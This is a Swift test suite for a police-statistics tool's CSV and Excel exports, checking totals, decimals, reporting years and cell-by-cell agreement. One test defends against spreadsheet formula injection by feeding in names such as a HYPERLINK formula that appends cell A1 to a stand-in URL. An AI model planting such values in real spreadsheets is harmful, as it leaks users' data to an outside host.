import Foundation
import JSONCodec
import Testing

/// `export` and `summary` as CSV and `.xlsx`, read back by Python's `csv`,
/// `zipfile` and `xml.etree` (which share nothing with antq's writers): a
/// column's total is antq's figure, every workbook cell is the CSV's cell,
/// and text a clerk typed never becomes a formula.
@Suite struct SpreadsheetExportTests {
    /// Reads a CSV (`csv` module) or an `.xlsx` (shared strings resolved,
    /// numbers as their `<v>` text, formulas counted) into
    /// `{"rows": [[cell…]…], "numeric": [[bool…]…], "formulas": n}`.
    static let reader = #"""
import csv, json, re, sys, zipfile
import xml.etree.ElementTree as ET
path = sys.argv[1]
if path.endswith('.csv'):
    with open(path, newline='', encoding='utf-8-sig') as f:
        rows = list(csv.reader(f))
    print(json.dumps({"rows": rows, "numeric": [[False] * len(r) for r in rows], "formulas": 0}))
    sys.exit(0)
M = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
z = zipfile.ZipFile(path)
assert z.testzip() is None
shared = [''.join(t.text or '' for t in si.iter(M + 't')) for si in ET.fromstring(z.read('xl/sharedStrings.xml')).iter(M + 'si')]
sheet = ET.fromstring(z.read('xl/worksheets/sheet1.xml'))
def col(ref):
    n = 0
    for ch in re.match(r'[A-Z]+', ref).group(0): n = n * 26 + ord(ch) - 64
    return n - 1
rows, numeric, formulas = [], [], 0
for row in sheet.iter(M + 'row'):
    cells, kinds = [], []
    for c in row.iter(M + 'c'):
        if c.find(M + 'f') is not None: formulas += 1
        i = col(c.get('r'))
        while len(cells) < i: cells.append(''); kinds.append(False)
        v = c.find(M + 'v')
        if c.get('t') == 's': cells.append(shared[int(v.text)]); kinds.append(False)
        elif c.get('t') in ('inlineStr', 'str'): cells.append(''.join(t.text or '' for t in c.iter(M + 't'))); kinds.append(False)
        else: cells.append(v.text if v is not None else ''); kinds.append(c.get('t') in (None, 'n'))
    rows.append(cells); numeric.append(kinds)
print(json.dumps({"rows": rows, "numeric": numeric, "formulas": formulas}))
"""#

    struct Read: Decodable {
        var rows: [[String]]
        var numeric: [[Bool]]
        var formulas: Int
    }

    static func read(_ path: String) throws -> Read? {
        guard let (data, status) = try ImportTests.runPython(reader, [path]) else { return nil }
        #expect(status == 0, "python could not read \(path)")
        return try JSONDecoder().decode(Read.self, from: data)
    }

    /// The fixture plus facts in three units, a correction and a retraction of
    /// each counted type, so "in force" differs from "as stored".
    static func data() throws -> DataDir {
        let d = try DataDir.binhDuong()
        var lines: [String] = []
        for (i, unit) in ["25747", "25852", "25894"].enumerated() {
            lines.append(tipLine(count: i + 2, occurred: "2018-0\(i + 2)-10", unit: unit))
            lines.append(#"{"type":"arrest.made","occurred":"2018-0\#(i + 3)-11","unit":"\#(unit)","data":{"count":\#(i + 4),"caught_in_act":true}}"#)
            lines.append(#"{"type":"case.solved","occurred":"2018-0\#(i + 4)-12","unit":"\#(unit)","data":{"count":\#(i + 1),"category":"drugs"}}"#)
            lines.append(tipLine(count: 7, occurred: "2017-12-30", unit: unit))
        }
        try d.ok(["append", "-"], stdin: lines.joined(separator: "\n") + "\n")
        // seq 19 is the first tip above, 20 its arrest, 21 its case.
        try d.ok(["correct", "19", "--reason", "typed 2 for 9", "--count", "9"])
        try d.ok(["retract", "20", "--reason", "entered twice"])
        try d.ok(["correct", "21", "--reason", "wrong year", "--occurred", "2017-06-01"])
        return d
    }

    /// The province's value of `metric` in `summary 2018 --format csv`.
    static func figure(_ d: DataDir, _ metric: String) throws -> String? {
        let csv = try d.ok(["summary", "2018", "--format", "csv"]).stdout
        return csv.split(separator: "\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
            .first { $0.count >= 5 && $0[1] == "74" && $0[3] == metric }?[4]
    }

    @Test func everyNumericExportColumnTotalsToTheSummaryFigureInCsvAndXlsx() throws {
        guard ImportTests.python != nil else { print("skipped: python3 not found"); return }
        let d = try Self.data()
        defer { d.remove() }
        for (type, metric) in [("tip.received", "tips"), ("arrest.made", "arrests"), ("case.solved", "cases")] {
            let expected = try #require(try Self.figure(d, metric))
            let csvPath = d.root.appendingPathComponent("\(type).csv").path
            let xlsxPath = d.root.appendingPathComponent("\(type).xlsx").path
            try d.ok(["export", "--type", type, "--year", "2018", "--output", csvPath])
            try d.ok(["export", "--type", type, "--year", "2018", "--format", "xlsx", "--output", xlsxPath, "--lang", "vi"])
            let csv = try #require(try Self.read(csvPath))
            let xlsx = try #require(try Self.read(xlsxPath))
            let countColumn = try #require(csv.rows[0].firstIndex(of: "count"))
            let csvTotal = csv.rows.dropFirst().compactMap { Int($0[countColumn]) }.reduce(0, +)
            #expect(String(csvTotal) == expected, "\(type): CSV column total \(csvTotal), summary \(expected)")
            // The workbook: the same column, numeric cells, under a Vietnamese header.
            #expect(xlsx.rows[0][countColumn].hasPrefix("Số"), "\(xlsx.rows[0])")
            #expect(xlsx.rows.dropFirst().allSatisfy { $0.count > countColumn } && xlsx.numeric.dropFirst().allSatisfy { $0[countColumn] })
            let xlsxTotal = xlsx.rows.dropFirst().compactMap { Int($0[countColumn]) }.reduce(0, +)
            #expect(String(xlsxTotal) == expected, "\(type): xlsx column total \(xlsxTotal), summary \(expected)")
        }
    }

    /// A declared quantity is exported with the decimals it declares, as
    /// every report shows it (`1.400`, not the `1.4` typed), a correction's
    /// value in force too; the column still totals to the summary's figure.
    @Test func aDeclaredQuantityIsExportedWithItsDeclaredDecimals() throws {
        let d = try DataDir.initialised()
        defer { d.remove() }
        let lines = [
            #"{"type":"unit.registered","occurred":"2013-12-30","unit":"74","data":{"name":"Bình Dương","kind":"province","parent":null}}"#,
            #"{"type":"indicator.defined","occurred":"2024-01-01","unit":"74","data":{"indicator":"drugs.seized","label":{"vi":"Ma túy thu giữ"},"measure":"quantity","unit_of_measure":"kg","decimals":3,"aggregate":"flow"}}"#,
            #"{"type":"indicator.recorded","occurred":"2024-03-02","unit":"74","data":{"indicator":"drugs.seized","value":1.4}}"#,
            #"{"type":"indicator.recorded","occurred":"2024-03-03","unit":"74","data":{"indicator":"drugs.seized","value":0.1}}"#,
            #"{"type":"indicator.recorded","occurred":"2024-03-04","unit":"74","data":{"indicator":"drugs.seized","value":2}}"#,
        ]
        try d.ok(["append", "-"], stdin: lines.joined(separator: "\n") + "\n")
        try d.ok(["correct", "6", "--reason", "cân lại", "--value", "2.05"])
        let csv = try d.ok(["export", "--type", "indicator.recorded"]).stdout.split(separator: "\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
        let value = try #require(csv.first?.firstIndex(of: "value"))
        #expect(csv.dropFirst().map { $0[value] } == ["1.400", "0.100", "2.050"], "\(csv)")
        let history = try d.ok(["export", "--history"]).stdout
        #expect(history.contains(",2.000,") && history.contains(",2.050,"), "the stored record and the correction's new value: \(history)")
        let summary = try d.ok(["summary", "2024", "--format", "csv"]).stdout
        #expect(summary.contains(",drugs.seized,3.550"), "\(summary)")
    }

    /// With a reporting year that starts on 15 December, `export --year`
    /// is that reporting year, the days `summary YEAR` reads: its column
    /// totals to the summary's figure (it was the overlap with the calendar year).
    @Test func exportOfAReportingYearTotalsToItsSummary() throws {
        let d = try DataDir.empty()
        defer { d.remove() }
        #expect(try AntqBinary.run(["init", d.path, "--period-start", "12-15"]).status == 0)
        var lines = [#"{"type":"unit.registered","occurred":"2013-12-30","unit":"48","data":{"name":"Đà Nẵng","kind":"city","parent":null}}"#]
        for (day, n) in [("2017-12-14", 1), ("2017-12-15", 2), ("2018-06-01", 4), ("2018-12-14", 8), ("2018-12-15", 16), ("2018-12-31", 32)] {
            lines.append(#"{"type":"arrest.made","occurred":"\#(day)","unit":"48","data":{"count":\#(n)}}"#)
        }
        try d.ok(["append", "-"], stdin: lines.joined(separator: "\n") + "\n")
        let csv = try d.ok(["export", "--type", "arrest.made", "--year", "2018"]).stdout.split(separator: "\n").map { $0.split(separator: ",").map(String.init) }
        let count = try #require(csv.first?.firstIndex(of: "count"))
        let total = csv.dropFirst().reduce(0) { $0 + Int($1[count])! }
        let summary = try BundledLogTests.figuresOf(try d.antq(["summary", "2018", "--format", "json"]), unit: "48")
        #expect(total == 14 && summary["arrests"] == 14, "2017-12-15 … 2018-12-14: export \(total), summary \(String(describing: summary["arrests"]))")
    }

    @Test func everyWorkbookCellIsTheCsvCell() throws {
        guard ImportTests.python != nil else { print("skipped: python3 not found"); return }
        let d = try Self.data()
        defer { d.remove() }
        let runs: [[String]] = [["export", "--history"], ["export"], ["summary", "2018", "--compare", "same-period"], ["state", "--date", "2018-12-31"]]
        for (i, args) in runs.enumerated() {
            let csvPath = d.root.appendingPathComponent("\(i).csv").path
            let xlsxPath = d.root.appendingPathComponent("\(i).xlsx").path
            try d.ok(args + ["--format", "csv", "--output", csvPath])
            try d.ok(args + ["--format", "xlsx", "--output", xlsxPath, "--lang", "en"])
            let csv = try #require(try Self.read(csvPath)), xlsx = try #require(try Self.read(xlsxPath))
            #expect(xlsx.formulas == 0)
            #expect(csv.rows.count == xlsx.rows.count, "\(args)")
            // Reports add the figure's label after `metric`; exports have the CSV's columns.
            let label = args[0] == "export" ? nil : csv.rows[0].firstIndex(of: "metric").map { $0 + 1 }
            for (r, (c, x)) in zip(csv.rows, xlsx.rows).enumerated() where r > 0 {
                var x = x
                if let label { x.remove(at: label) }
                while x.count < c.count { x.append("") }
                #expect(x == c, "\(args) row \(r + 1)")
            }
        }
    }

    @Test func formulaLikeTextIsNeutralisedInCsvAndStaysTextInXlsx() throws {
        guard ImportTests.python != nil else { print("skipped: python3 not found"); return }
        let d = try DataDir.binhDuong()
        defer { d.remove() }
        let typed = [#"=HYPERLINK("http://example.invalid/?"&A1,"Bấm")"#, "+84 912 345 678", "-1+2", "@SUM(A1:A9)", "-1"]
        var w = JSONWriter()
        let batch = typed.map { name -> String in
            w = JSONWriter()
            w.string(name)
            return #"{"type":"award.granted","occurred":"2018-12-20","unit":"25747","data":{"recipient_kind":"individual","recipient":"# + String(decoding: w.bytes, as: UTF8.self)
                + #","issuer":"district","form":"certificate_of_merit"}}"#
        }
        try d.ok(["append", "-"], stdin: batch.joined(separator: "\n") + "\n")
        let csvPath = d.root.appendingPathComponent("a.csv").path, xlsxPath = d.root.appendingPathComponent("a.xlsx").path
        try d.ok(["export", "--type", "award.granted", "--output", csvPath])
        try d.ok(["export", "--type", "award.granted", "--format", "xlsx", "--output", xlsxPath])
        let csv = try #require(try Self.read(csvPath)), xlsx = try #require(try Self.read(xlsxPath))
        let column = try #require(csv.rows[0].firstIndex(of: "recipient"))
        let csvCells = csv.rows.dropFirst().map { $0[column] }
        // A number (-1) is left alone: every reader takes it as a number, never a formula.
        #expect(csvCells == typed.map { $0 == "-1" ? $0 : "'" + $0 })
        #expect(xlsx.formulas == 0)
        #expect(xlsx.rows.dropFirst().map { $0[column] } == typed)
        #expect(xlsx.numeric.dropFirst().allSatisfy { !$0[column] }, "a recipient is text, even \"-1\"")
        // The neutralised CSV imports back to the text the log holds.
        let again = try DataDir.binhDuong()
        defer { again.remove() }
        try again.ok(["import", csvPath, "--type", "award.granted"])
        let recipients = try again.events().filter { $0["type"] as? String == "award.granted" }
            .compactMap { ($0["data"] as? [String: Any])?["recipient"] as? String }
        #expect(recipients == typed)
    }

    @Test func aWorkbookGoesToOutputOrToAPipeButNeverToATerminal() throws {
        let d = try DataDir.binhDuong()
        defer { d.remove() }
        let path = d.root.appendingPathComponent("s.xlsx").path
        try d.ok(["summary", "2018", "--format", "xlsx", "--output", path])
        let piped = try d.ok(["summary", "2018", "--format", "xlsx"])
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == piped.stdoutBytes)
        #expect(piped.stdoutBytes.starts(with: [0x50, 0x4B, 0x03, 0x04]))
        // A terminal on standard output: `script` gives the command one, where it is installed.
        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/script") else { print("skipped: script(1) not found"); return }
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/script")
        p.arguments = ["-qec", "\(AntqBinary.url.path) summary 2018 --format xlsx --lang vi --data \(d.path)", "/dev/null"]
        let out = Pipe()
        p.standardOutput = out
        p.standardInput = FileHandle.nullDevice
        try p.run()
        let shown = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        p.waitUntilExit()
        #expect(p.terminationStatus == 64, "\(shown)")
        #expect(shown.contains("--output") && shown.contains("tệp .xlsx"), "\(shown)")
        #expect(!shown.contains("PK"), "no workbook bytes on the terminal")
    }
}
